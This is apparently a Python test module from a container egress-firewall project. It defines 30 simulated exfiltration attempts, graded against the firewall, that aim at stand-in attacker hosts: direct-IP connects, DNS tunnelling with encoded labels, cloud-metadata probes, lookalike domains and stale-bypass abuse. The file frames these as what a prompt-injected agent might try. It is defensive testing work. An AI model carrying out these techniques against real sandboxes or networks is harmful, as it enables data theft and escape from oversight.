"""The exfiltration payload corpus: 30 technique classes.

Each payload is a function ``(surface) -> list[Attempt]`` modeling one
exfil technique an in-container attacker (or a prompt-injected agent)
would try.  Grading: bytes reaching an attacker endpoint = ESCAPED;
reaching a clawker chokepoint = CONTAINED; denied/NXDOMAIN = CAPTURED.

Parity reference: the 30 payload directories of upstream clawker's
test/adversarial/payloads (01..30) -- technique classes
re-derived, not copied: direct-IP lanes, DNS tricks, raw sockets, v6,
infra abuse, zone-matching confusions, timing races.

The port's copy of ``clawker_tpu/adversarial/payloads.py``, whole, the
upstream project named in place of its checkout's path.
"""

from __future__ import annotations

import time

from ..config.schema import EgressRule
from ..firewall.model import Action, DnsEntry, PROTO_TCP, PROTO_UDP
from ..firewall.hashes import zone_hash
from .harness import (
    CG,
    DNS_IP,
    ENVOY_IP,
    HOSTPROXY_IP,
    HOSTPROXY_PORT,
    Attempt,
    Outcome,
)

ATTACKER_IP = "198.51.100.66"
ATTACKER_DOMAIN = "exfil.attacker.net"
ALLOWED_API_IP = "93.184.216.34"


def default_rules() -> list[EgressRule]:
    return [
        EgressRule(dst="*.example.com", proto="https"),
        EgressRule(dst="exact.example.org", proto="https"),
        EgressRule(dst="github.com", proto="tcp", port=22),
        EgressRule(dst="plain.example.net", proto="http"),
    ]


def default_resolutions() -> dict[str, str]:
    """What the upstream resolver would answer for allowed zones."""
    return {
        "api.example.com": ALLOWED_API_IP,
        "example.com": ALLOWED_API_IP,
        "tun1.example.com": ALLOWED_API_IP,
        "exact.example.org": "93.184.216.40",
        "github.com": "140.82.112.3",
        "plain.example.net": "93.184.216.50",
    }


def _attempt(payload, technique, surface, verdict, dst_ip, detail="") -> Attempt:
    outcome, why = surface.grade_verdict(verdict, dst_ip)
    return Attempt(payload, technique, detail or why, outcome)


def _dns_attempt(payload, surface, qname) -> Attempt:
    rcode, ips = surface.dns_query(qname)
    if rcode == 3:  # NXDOMAIN
        return Attempt(payload, "dns", f"{qname}: NXDOMAIN", Outcome.CAPTURED)
    if not ips:
        return Attempt(payload, "dns", f"{qname}: empty answer", Outcome.CAPTURED)
    return Attempt(payload, "dns", f"{qname} -> {ips} (gate-resolved)",
                   Outcome.CONTAINED)


# ---------------------------------------------------------------- corpus

def p01_direct_ip_https(s):
    return [_attempt("01-direct-ip-https", "connect", s,
                     s.connect(ATTACKER_IP, 443), ATTACKER_IP)]


def p02_direct_ip_http(s):
    return [_attempt("02-direct-ip-http", "connect", s,
                     s.connect(ATTACKER_IP, 80), ATTACKER_IP)]


def p03_high_port_tcp(s):
    return [_attempt("03-high-port-tcp", "connect", s,
                     s.connect(ATTACKER_IP, 31337), ATTACKER_IP)]


def p04_udp_datagram(s):
    return [_attempt("04-udp-datagram", "sendmsg", s,
                     s.sendmsg(ATTACKER_IP, 9999), ATTACKER_IP)]


def p05_icmp_ping(s):
    v = s.raw_socket()
    out = (Outcome.CAPTURED if v.action is Action.DENY else Outcome.ESCAPED)
    return [Attempt("05-icmp-ping", "sock_create", f"raw socket: {v.reason.name}", out)]


def p06_packet_socket(s):
    v = s.packet_socket()
    out = (Outcome.CAPTURED if v.action is Action.DENY else Outcome.ESCAPED)
    return [Attempt("06-packet-socket", "sock_create", f"packet socket: {v.reason.name}", out)]


def p07_hardcoded_resolver(s):
    # 8.8.8.8:53 must be rewritten to the gate, never reach Google
    return [_attempt("07-hardcoded-resolver", "sendmsg", s,
                     s.sendmsg("8.8.8.8", 53), "8.8.8.8")]


def p08_resolve_attacker_domain(s):
    return [_dns_attempt("08-resolve-attacker-domain", s, ATTACKER_DOMAIN)]


def p09_dns_tunnel_subdomains(s):
    return [_dns_attempt("09-dns-tunnel", s, f"{chunk}.{ATTACKER_DOMAIN}")
            for chunk in ("aGVsbG8", "d29ybGQ", "ZXhmaWw")]


def p10_dns_tunnel_allowed_zone(s):
    # data-in-label under an ALLOWED zone: resolves via the gate (logged,
    # rate-limited upstream) -- contained, never attacker-direct
    return [_dns_attempt("10-dns-tunnel-allowed-zone", s, "tun1.example.com")]


def p11_ipv6_literal(s):
    return [_attempt("11-ipv6-literal", "connect6", s,
                     s.connect6("2001:db8::bad", 443), "0.0.0.0")]


def p12_v4mapped_attacker(s):
    return [_attempt("12-v4mapped", "connect6", s,
                     s.connect6(f"::ffff:{ATTACKER_IP}", 443), ATTACKER_IP)]


def p13_loopback_is_not_egress(s):
    return [_attempt("13-loopback", "connect", s,
                     s.connect("127.0.0.1", 8080), "127.0.0.1")]


def p14_stale_cache_unruled_zone(s):
    # attacker somehow seeded dns_cache with an IP under a zone that has
    # NO route: the route lookup must still deny
    s.maps.cache_dns(ATTACKER_IP, DnsEntry(
        zone_hash=zone_hash(ATTACKER_DOMAIN), expires_unix=int(time.time()) + 300))
    return [_attempt("14-stale-cache-unruled", "connect", s,
                     s.connect(ATTACKER_IP, 443), ATTACKER_IP)]


def p15_resolver_port_masquerade(s):
    # attacker C2 listening on :53/tcp -- kernel rewrites to the gate
    return [_attempt("15-port53-masquerade", "connect", s,
                     s.connect(ATTACKER_IP, 53), ATTACKER_IP)]


def p16_udp_port53_masquerade(s):
    return [_attempt("16-udp53-masquerade", "sendmsg", s,
                     s.sendmsg(ATTACKER_IP, 53), ATTACKER_IP)]


def p17_envoy_direct_wrong_sni(s):
    # dialing the proxy directly: kernel allows (chokepoint); Envoy's SNI
    # filter chains + default-deny handle the rest
    return [_attempt("17-envoy-direct", "connect", s,
                     s.connect(ENVOY_IP, 10000), ENVOY_IP)]


def p18_hostproxy_off_port(s):
    return [_attempt("18-hostproxy-off-port", "connect", s,
                     s.connect(HOSTPROXY_IP, 2222), HOSTPROXY_IP,
                     "host-proxy ip, non-allowed port")]


def p19_gateway_service_scan(s):
    return [_attempt("19-gateway-scan", "connect", s,
                     s.connect("10.77.0.1", p), "10.77.0.1", f"gateway :{p}")
            for p in (80, 443, 8080) ]


def p20_subnet_neighbor_scan(s):
    return [_attempt("20-subnet-scan", "connect", s,
                     s.connect("10.77.0.9", 445), "10.77.0.9")]


def p21_cloud_metadata(s):
    return [_attempt("21-cloud-metadata", "connect", s,
                     s.connect("169.254.169.254", 80), "169.254.169.254")]


def p22_ttl_expiry_race(s):
    s.maps.cache_dns("198.51.100.77", DnsEntry(
        zone_hash=zone_hash("example.com"), expires_unix=int(time.time()) - 10))
    s.maps.expire_dns()
    return [_attempt("22-ttl-expiry-race", "connect", s,
                     s.connect("198.51.100.77", 443), "198.51.100.77",
                     "cached entry expired + GC'd")]


def p23_allowed_zone_wrong_port(s):
    rcode, ips = s.dns_query("api.example.com")
    v = s.connect(ips[0], 2222) if ips else s.connect(ALLOWED_API_IP, 2222)
    return [_attempt("23-allowed-wrong-port", "connect", s, v, ALLOWED_API_IP,
                     "allowed zone, unruled port 2222")]


def p24_allowed_zone_wrong_proto(s):
    s.dns_query("api.example.com")
    return [_attempt("24-allowed-wrong-proto", "sendmsg", s,
                     s.sendmsg(ALLOWED_API_IP, 443), ALLOWED_API_IP,
                     "udp to an https-only zone")]


def p25_exact_rule_subdomain(s):
    return [_dns_attempt("25-exact-subdomain", s, "sub.exact.example.org")]


def p26_lookalike_domain(s):
    return [_dns_attempt("26-lookalike", s, "evilexample.com")]


def p27_zone_suffix_confusion(s):
    return [_dns_attempt("27-suffix-confusion", s, "example.com.attacker.net")]


def p28_expired_bypass(s):
    # a bypass the operator granted yesterday must not still be open
    s.maps.set_bypass(CG, int(time.time()) - 3600)
    out = [_attempt("28-expired-bypass", "connect", s,
                    s.connect(ATTACKER_IP, 443), ATTACKER_IP,
                    "bypass deadline passed")]
    s.maps.clear_bypass(CG)
    return out


def p29_udp_reply_spoof(s):
    # recvmsg reverse-NAT must only rewrite replies from the gate/proxy:
    # a spoofed reply from the attacker must come through unmasked
    from ..firewall import policy as policy_mod

    cookie = s.cookie()
    policy_mod.sendmsg4(s.maps, CG, cookie, "9.9.9.9", 53)
    src = policy_mod.recvmsg4(s.maps, CG, cookie, ATTACKER_IP, 53)
    ok = src == (ATTACKER_IP, 53)
    return [Attempt("29-udp-reply-spoof", "recvmsg",
                    f"spoofed reply surfaced as {src[0]}:{src[1]}",
                    Outcome.CAPTURED if ok else Outcome.ESCAPED)]


def p30_allowed_flow_is_proxied(s):
    # the happy path itself: allowed https must ride the proxy chokepoint,
    # never go direct (otherwise SNI/path policy is bypassed)
    rcode, ips = s.dns_query("api.example.com")
    v = s.connect(ips[0], 443) if ips else s.connect(ALLOWED_API_IP, 443)
    outcome, why = s.grade_verdict(v, ALLOWED_API_IP)
    if v.action is Action.ALLOW:  # direct-to-internet allow = policy hole
        outcome, why = Outcome.ESCAPED, "allowed https went direct, not proxied"
    return [Attempt("30-allowed-flow-proxied", "connect", why, outcome)]


CORPUS = [
    p01_direct_ip_https, p02_direct_ip_http, p03_high_port_tcp,
    p04_udp_datagram, p05_icmp_ping, p06_packet_socket,
    p07_hardcoded_resolver, p08_resolve_attacker_domain,
    p09_dns_tunnel_subdomains, p10_dns_tunnel_allowed_zone,
    p11_ipv6_literal, p12_v4mapped_attacker, p13_loopback_is_not_egress,
    p14_stale_cache_unruled_zone, p15_resolver_port_masquerade,
    p16_udp_port53_masquerade, p17_envoy_direct_wrong_sni,
    p18_hostproxy_off_port, p19_gateway_service_scan,
    p20_subnet_neighbor_scan, p21_cloud_metadata, p22_ttl_expiry_race,
    p23_allowed_zone_wrong_port, p24_allowed_zone_wrong_proto,
    p25_exact_rule_subdomain, p26_lookalike_domain,
    p27_zone_suffix_confusion, p28_expired_bypass, p29_udp_reply_spoof,
    p30_allowed_flow_is_proxied,
]
